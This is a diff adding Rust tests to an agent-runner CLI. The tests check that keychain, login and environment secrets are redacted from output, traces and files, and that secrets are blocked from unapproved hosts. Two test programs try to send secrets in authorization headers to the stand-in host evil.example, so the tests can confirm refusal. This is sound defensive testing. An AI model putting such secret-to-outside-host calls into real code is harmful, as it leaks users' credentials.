@@ -206,3 +206,165 @@ fn gu_9_listing_of_servers_hides_secrets_of_addresses_and_arguments() {
     let done = sandbox.run(["mcp-servers", "accept", "web"]);
     assert_clean(&format!("{}{}", done.stdout, done.stderr), "accept");
 }
+
+/// Answers requests with their own heads, as a server that repeats what it is sent.
+fn repeating() -> u16 {
+    use std::io::{Read as _, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let mut stream = stream.unwrap();
+            let mut head = Vec::new();
+            let mut byte = [0];
+            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap() == 1 {
+                head.push(byte[0]);
+            }
+            let length = head.len();
+            let line = format!(
+                "HTTP/1.1 200 OK\r\nx-length: {length}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
+            );
+            stream.write_all(line.as_bytes()).and_then(|()| stream.write_all(&head)).unwrap();
+        }
+    });
+    port
+}
+
+/// Asserts that no file below a folder holds a secret in any of its forms.
+fn assert_nowhere(folder: &Path, secrets: &[&str], own: &[&str]) {
+    for entry in std::fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            assert_nowhere(&path, secrets, own);
+        } else if !own.iter().any(|own| path.ends_with(own)) {
+            let bytes = std::fs::read(&path).unwrap();
+            let text = String::from_utf8_lossy(&bytes);
+            for secret in secrets {
+                assert!(!text.contains(secret), "{secret} in {}: {text}", path.display());
+            }
+        }
+    }
+}
+
+#[test]
+fn gu_9_secrets_of_each_source_and_sink_stand_in_nothing_that_is_written() {
+    let sandbox = Sandbox::new();
+    let port = repeating();
+    let site = format!("http://127.0.0.1:{port}");
+    let own = std::env::current_exe().unwrap();
+    let of_keychain = sandbox.path("../home/keychain");
+    sandbox.write("../home/keychain", "keychain-hunter2-value\n");
+    let home = format!(
+        "[CHAIN]\ncommand = [\"cat\", {of_keychain:?}]\nto = [\"{site}\"]\n\
+         [DB]\ncommand = [\"cat\", {of_keychain:?}]\nto = [\"mcp:test\"]\n"
+    );
+    sandbox.write("../home/.contexture/secrets.toml", home);
+    sandbox.write("keys/login", "ann:login-hunter2-value\n");
+    sandbox.write(
+        "contexture.toml",
+        format!(
+            "[secrets.LOGIN]\nfile = \"keys/login\"\nto = [\"{site}\"]\n\
+             [mcp.servers.test]\ncommand = {own:?}\nargs = [\"mcp_servers::server\", \"--exact\", \
+             \"--ignored\", \"--nocapture\", \"--test-threads=2\"]\nenv = [\"DB\"]\n"
+        ),
+    );
+    let tool = serde_json::json!([{ "name": "environment", "inputSchema": { "type": "object" } }]);
+    sandbox.write("tools.json", tool.to_string());
+    sandbox.write(
+        "p.as",
+        format!(
+            "import tool Web from \"{site}\"\nimport tool Test from \"mcp://test\"\nmain func(input) {{\n\
+             a = Web.get({{ url: \"/\", headers: {{ authorization: secret(\"CHAIN\") }} }}).body\n\
+             b = Web.get({{ url: \"/\", headers: {{ authorization: secret(\"LOGIN\") }} }}).body\n\
+             c = Web.get({{ url: \"/\", headers: {{ xown: secret(\"VARIABLE\") }} }}).body\n\
+             said = a + b + c\n\
+             names = Test.environment({{}})\n\
+             use said as said\nuse names as names\n\
+             answer = generate({{ input: \"Repeat.\" }})\n\
+             {{ said: said, names: names, answer: answer }}\n}}\n"
+        ),
+    );
+    sandbox.write(
+        "broken.as",
+        "import tool Web from \"http://127.0.0.1:1\"\nimport tool Far from \"https://evil.example\"\nmain func(input) {\n\
+         a = try { Far.get({ url: \"/\", headers: { authorization: secret(\"CHAIN\") } }) } else err { err.message }\n\
+         b = try { Far.get({ url: \"/\", headers: { authorization: secret(\"LOGIN\") } }) } else err { err.message }\n\
+         console_log = a + b\n\
+         Web.get({ url: \"/\", headers: { authorization: secret(\"VARIABLE\") }, timeout: 900 })\n}\n",
+    );
+    sandbox.write(
+        "set.json",
+        r#"{"instructions": [{"instructionId": "a", "action": "agent:p", "parameters": {}}]}"#,
+    );
+    let run = |arguments: &[&str]| {
+        let mut command = sandbox.contexture(arguments);
+        command.env("VARIABLE", "variable-hunter2-value");
+        let done = command.output().unwrap();
+        let text = [done.stdout, done.stderr].map(|bytes| String::from_utf8(bytes).unwrap());
+        (done.status.code(), text.concat())
+    };
+    let secrets = ["hunter2", "a2V5Y2hhaW4", "YW5uOmxvZ2lu", "bG9naW4taHVudGVyMi", "dmFyaWFibGUt"];
+    let accepted = run(&["mcp-servers", "accept", "test"]);
+    assert_eq!(accepted.0, Some(0), "{accepted:?}");
+    for (arguments, code) in [
+        (
+            &[
+                "run",
+                "p.as",
+                "--mock",
+                "--trace",
+                "trace.jsonl",
+                "--record",
+                "answers.jsonl",
+                "--verbose",
+            ][..],
+            0,
+        ),
+        (&["run", "p.as", "--replay", "answers.jsonl"], 0),
+        (&["flow", "run", "set.json", "--program", "p.as", "--mock"], 0),
+        (&["flow", "show", "latest", "--json"], 0),
+        (&["run", "broken.as"], 1),
+        (&["check", "p.as", "--json"], 0),
+        (&["trace", "show", "latest"], 0),
+        (&["trace", "prompt", "latest"], 2),
+        (&["mcp-servers", "list", "--json"], 0),
+    ] {
+        let (found, text) = run(arguments);
+        assert_eq!(found, Some(code), "{arguments:?}: {text}");
+        for secret in secrets {
+            assert!(!text.contains(secret), "{arguments:?}: {text}");
+        }
+        if arguments.starts_with(&["run", "p.as", "--mock"]) {
+            assert!(text.contains("authorization: Bearer •••"), "it was sent: {text}");
+            assert!(text.contains("authorization: Basic •••"), "it was sent: {text}");
+            assert!(
+                text.contains("xown: •••") && text.contains("\"names\": \"DB\""),
+                "it was sent: {text}"
+            );
+        }
+    }
+    let sources = ["keys/login", "home/keychain"];
+    assert_nowhere(&sandbox.path(".."), &secrets, &sources);
+    // What a secret may not go to, and a file that others can change.
+    sandbox.write(
+        "p.as",
+        "import tool Far from \"https://evil.example\"\nmain func(input) {\nFar.get({ url: \"/\", headers: { authorization: secret(\"CHAIN\") } })\n}\n",
+    );
+    let (_, told) = run(&["run", "p.as"]);
+    assert!(
+        told.contains("it may go to") && told.contains("not to https://evil.example"),
+        "{told}"
+    );
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        let file = sandbox.path("../home/.contexture/secrets.toml");
+        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o666)).unwrap();
+        let (_, told) = run(&["run", "p.as"]);
+        assert!(told.contains("can be changed by others"), "{told}");
+    }
+    // A project starts nothing.
+    sandbox.write("contexture.toml", "[secrets.X]\ncommand = [\"touch\", \"started\"]\n");
+    let (code, told) = run(&["run", "p.as"]);
+    assert!(code == Some(2) && told.contains(".contexture/secrets.toml"), "{told}");
+}
